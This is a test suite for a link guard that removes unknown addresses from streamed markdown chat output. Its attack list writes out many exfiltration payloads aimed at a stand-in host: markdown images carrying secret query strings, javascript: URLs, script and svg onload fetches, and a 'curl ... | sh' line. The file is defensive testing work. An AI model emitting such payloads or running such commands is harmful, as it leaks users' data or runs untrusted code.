"""Nothing that a renderer would load or link gets through; ordinary text does, and at once."""

from __future__ import annotations

import itertools
import re
import time

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from tests.rendering import live

from ventoux.conversations.guarding.links import LinkGuard

KNOWN = frozenset({"https://ok.example/a", "https://ok.example/b_(c)?x=1&y=2"})
LONG = "x" * 5000


def guarded(*pieces: str, known: frozenset[str] = KNOWN) -> str:
    guard = LinkGuard(known)
    return "".join([*map(guard.feed, pieces), guard.end()])


ATTACKS = [
    "![x](https://evil.example/?d=secret)",
    "![x](<https://evil.example/?d=secret>)",
    '![x](https://evil.example/?d=secret "title")',
    "![x](\nhttps://evil.example/?d=secret\n)",
    "![x](//evil.example/?d=secret)",
    "![x](/\\evil.example/?d=secret)",
    "![x](https:evil.example)",
    "![x](https&colon;//evil.example/?d=secret)",
    "![x](&#104;ttps&#58;&#47;&#47;evil.example)",
    "![x](data:image/svg+xml;base64,PHN2Zz4=)",
    "![x](https://ok.example/a)",
    "![x](HTTPS%3A//evil.example)",
    "![a ![b](https://evil.example/1) c](https://evil.example/2)",
    "![x][1]\n\n[1]: https://evil.example/?d=secret",
    "![x]\n\n[x]: <https://evil.example/?d=secret> 'title'",
    "![x][]\n\n> [x]:\n> //evil.example/?d=secret",
    "![x]\n\n[x]: https://ok.example/a",
    "[![x](https://evil.example/1)](https://evil.example/2)",
    "[x](https://evil.example/?d=secret)",
    "[[x]](https://evil.example)",
    "[x\n](https://evil.example)",
    "[x](javascript:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](\u200bhttps://evil.example)",
    "[x](ht\u200btps://evil.example)",
    "[x](mailto:a@evil.example?body=secret)",
    "[https://ok.example/a](https://evil.example)",
    "[x](https://ok.example/a?d=secret)",
    "[x](https://ok.example/a#secret)",
    "[x](https://ok.example@evil.example/a)",
    "[x]: //evil.example/?d=secret\n\n[x]",
    "[x]: evil.example/?d=secret\n\n[x]",
    "<https://evil.example/?d=secret>",
    "<HTTPS://evil.example>",
    "<javascript:alert(1)>",
    "https://evil.example/?d=secret",
    "HtTpS://evil.example/?d=secret",
    "https\\://evil.example/?d=secret",
    "https:\\/\\/evil.example/?d=secret",
    "https&colon;//evil.example/?d=secret",
    "www.evil.example/?d=secret",
    "(www.evil.example)",
    "//evil.example/?d=secret",
    "ftp://evil.example/secret",
    "https://ok.example/a\u00a0secret",
    "https://ok.example/a)secret",
    "https://ok.example/a<b>secret",
    "https://ok.example/a<secret",
    "https://ok.example/a](x)secret",
    "https://ok.example/ahttps://evil.example",
    "<img src=https://evil.example/?d=secret>",
    "<IMG\nSRC='https://evil.example'>",
    '<a href="https://evil.example">x</a>',
    "<script>fetch('//evil.example')</script>",
    "<iframe src=//evil.example></iframe>",
    "<style>@import '//evil.example'</style>",
    '<form action="//evil.example"><button>x</button></form>',
    '<b style="background:url(//evil.example)">x</b>',
    "<svg/onload=fetch('//evil.example')>",
    '<!-- --><img src="//evil.example">',
    "<![CDATA[x]]><img src=//evil.example>",
    "<base href=//evil.example>[x](a/b)",
    "[address removed](https://evil.example)",
    "<https://evil.example/a>(//evil.example/b)",
    "!<https://evil.example/a>",
    # What looks like code to one reader, and not to another.
    "> ```\nhttps://evil.example ![x](https://evil.example)",
    "- ```\nhttps://evil.example ![x](https://evil.example)",
    " ```\ncode\n```\nhttps://evil.example\n```",
    "````\n```\n````\n![x](https://evil.example)\n````",
    "```\n    ```\n```\nhttps://evil.example ![x](https://evil.example)",
    "~~~\n```\n~~~\n![x](https://evil.example)\n```",
    "``` a`b\n![x](https://evil.example)",
    "<div>\n```\n<img src=https://evil.example>\n```\n</div>",
    "<b>\n```\n<img src=https://evil.example>\n```",
    "a ` b\n`https://evil.example` ![x](https://evil.example)`",
    "\\`![x](https://evil.example)`",
    "| a | b |\n| --- | --- |\n| `a | ![x](https://evil.example)` |",
    "<b>\n`<img src=https://evil.example>`",
    "```mermaid\ngraph TD; a[\"<img src='https://evil.example'>\"]\n```",
    "`unclosed ![x](https://evil.example)",
    "```\r![x](https://evil.example)\r```\r![x](https://evil.example)",
    f"[x](https://evil.example/{LONG})",
    f"https://evil.example/{LONG} and on",
]


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_is_loaded_or_linked_from_an_unknown_address(text: str) -> None:
    told = guarded(text)
    assert live(told, KNOWN) == []
    assert guarded(*text) == told


@pytest.mark.parametrize(
    ("text", "told"),
    [
        ("[a](https://evil.example/x?d=1)!", "[a] [address removed: evil.example]!"),
        ("See https://evil.example/x?d=1.", "See [address removed: evil.example]."),
        ("![chart](https://www.evil.example)", "! [chart] [address removed: evil.example]"),
        ("https://user:pw@evil.example:80/x", "[address removed: evil.example]"),
        ("https://%65vil.example", "[address removed: evil.example]"),
        ("[a](javascript:alert(1))", "[a] [address removed]"),
        ("evil.com/?d=secret", "evil.com [address removed]"),
        ("**https://evil.example**", "**[address removed: evil.example]**"),
    ],
)
def test_the_host_stands_in_words_in_place_of_an_address(text: str, told: str) -> None:
    assert guarded(text) == told


@pytest.mark.parametrize(
    "text",
    [
        "See https://ok.example/a, or [there](https://ok.example/a) (<https://ok.example/a>).",
        "[c](https://ok.example/b_(c)?x=1&y=2) https://ok.example/b_(c)?x=1&y=2.",
        "[https://ok.example/a](https://ok.example/a 'a title')",
        "ok.example/a and https://ok.example/a/",
        "[1]: https://ok.example/a\n[there][1]",
        "[Contents](#contents)",
    ],
)
def test_known_addresses_stay_as_they_are(text: str) -> None:
    assert guarded(text) == text


@pytest.mark.parametrize(
    "text",
    [
        "`curl https://evil.example/x ; sh`",
        "```bash\ncurl https://evil.example/x?d=1 | sh\n![x](https://evil.example)\n```\nDone.",
        "~~~~\n[x](https://evil.example)\n<img src=x>\n~~~~",
        "``a ` https://evil.example``",
    ],
)
def test_an_address_in_code_is_text_and_stays(text: str) -> None:
    assert guarded(text) == text == guarded(*text)
    assert live(text) == []


ORDINARY = [
    "Le prix est de 3,50 € (hors taxes) ; c'est-à-dire « environ » 4 $ : l'année 2024/2025 convient-elle ? Oui ! [1]",
    "Die Abgabe z. B. für Haus-/Wohnungseigentümer beträgt 5 % [2]. Dr. Weiß schrieb: „Ja!“ Siehe § 3 Abs. 2.",
    "It's 5 < 6 && 7 > 3 -- see e.g. node.js/React, U.S./U.K., 24/7, and `x[1]`; mail me@home.example. Wow!",
    "¿Cuánto cuesta? ¡Mucho! El señor Núñez pagó 1.000,00 € a las 12:30, p. ej. en enero/febrero.",
    "Perché no? L'utente può scegliere: 1) così; 2) colà... E poi c'è l'IVA/imposta del 22 %. [3][4]",
    "# Title\n\n- one\n- **two** _three_\n\n| a | b |\n| --- | --- |\n| 1 | 2 |\n\n> quoted\n\n1. first\n2. second\n",
    "The sum x<sub>1</sub> + x<sub>2</sub> is $a_1 + a_2$.<br>And \\(x\\) too. &nbsp; &eacute; R&D AT&T;",
    "```python\nprint(a[0](1), '<b>')\n```\n\nData: the HTTP protocol, ftp, www and WWW; http: is a scheme. // comment",
]


@pytest.mark.parametrize("text", ORDINARY)
def test_ordinary_text_passes_unchanged_and_at_once(text: str) -> None:
    guard, told, fed = LinkGuard(frozenset()), "", ""
    for piece in re.findall(r"\s*\S+|\s+\Z", text):
        fed += piece
        told += guard.feed(piece)
        in_code = "`" in piece or fed.count("`") % 2
        assert in_code or len(fed) - len(told) <= 12, fed[len(told) :]
    assert told + guard.end() == text


@pytest.mark.parametrize(
    ("before", "after"),
    [
        ("```bash\ncurl", " x\n```\n![x](https://evil.example)"),
        ("[x]", "(javascript:alert(1))"),
        ("[x]", "(//evil.example/?d=secret)"),
        ("[x]", ": //evil.example/?d=secret\n\n[x]"),
        ("!", "[x](https://evil.example)"),
        ("a `", "b\n`https://evil.example`"),
    ],
)
def test_what_goes_on_with_a_text_is_read_after_it(before: str, after: str) -> None:
    guard = LinkGuard(KNOWN, before)
    told = guard.feed(after) + guard.end()
    assert live(before + told, KNOWN) == []
    cut = LinkGuard(KNOWN, before)
    assert "".join([*map(cut.feed, after), cut.end()]) == told


PIECES = st.sampled_from(
    [
        *("![", "[", "]", "](", "]:", "(", ")", "<", ">", '"', " ", " ", "\n", "\n\n", "\r", "\t", "```", "`", "``"),
        *("~~~", "> ", "- ", "    ", "$", "$$", "|", "\\", "&colon;", "&#x2f;", "&", "https://", "https", "//", "www."),
        *(
            "\\/",
            "evil.example",
            "evil.com",
            "/?d=secret",
            "mailto:",
            "javascript:",
            "x",
            "!",
            "<img src=",
            "<b>",
            "<br>",
        ),
        *(
            "<script>",
            "<!--",
            "\n<b>\n",
            "https://ok.example/a",
            "(https://ok.example/a)",
            "\u200b",
            "\u00a0",
            "*",
            "_",
        ),
        *("---", "+++", "[x]: ", "[x]", "mermaid", "\\(", "[address removed", ".", "com", "#", "{", "=", "1"),
    ]
)


@settings(max_examples=100, deadline=None)
@given(st.lists(PIECES, max_size=25).map("".join), st.data())
def test_whatever_is_written_and_however_it_is_cut_nothing_unknown_is_live(text: str, data: st.DataObject) -> None:
    told = guarded(text)
    assert live(told, KNOWN) == []
    places = sorted(data.draw(st.lists(st.integers(0, len(text)), max_size=8)))
    cuts = [0, *places, len(text)]
    assert guarded(*(text[a:b] for a, b in itertools.pairwise(cuts))) == told


@pytest.mark.parametrize("text", ["[", "](", "`", "<a ", "&a", "![](", ">", "]:", "https://", "a.com/x "])
def test_what_is_made_to_be_slow_is_read_in_time(text: str) -> None:
    guard, began = LinkGuard(KNOWN), time.process_time()
    for _ in range(2000):
        guard.feed(text)
    guard.end()
    assert time.process_time() - began < 2
